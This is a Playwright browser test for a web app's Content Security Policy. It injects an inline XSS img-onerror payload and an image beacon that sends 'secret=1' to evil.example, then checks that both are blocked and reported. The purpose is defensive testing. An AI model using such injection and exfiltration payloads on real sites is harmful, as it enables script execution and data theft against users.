"""The policy in a real browser: what it blocks is told to us, and pages work under it."""

import pytest
from playwright.sync_api import Browser
from sqlalchemy import select

from app.core.database import transaction
from app.operations.models import CspViolation
from testbed.system import System, wait_until

pytestmark = pytest.mark.browser


def seen() -> set[tuple[str, str, str]]:
    with transaction() as session:
        violations = session.scalars(select(CspViolation))
        return {
            (violation.directive, violation.blocked, violation.page) for violation in violations
        }


def test_what_chromium_blocks_is_told(web: System, browser: Browser) -> None:
    page = browser.new_page()
    page.goto(f"{web.base_url}/sign-in")
    page.evaluate(
        """() => {
            document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran=1">');
            document.body.insertAdjacentHTML(
                'beforeend', '<img src="http://evil.example/a?secret=1">');
        }"""
    )
    wanted = {
        ("script-src-attr", "inline", "/sign-in"),
        ("img-src", "http://evil.example", "/sign-in"),
    }
    wait_until("both reports", lambda: wanted <= seen())
    assert page.evaluate("window.ran === undefined")
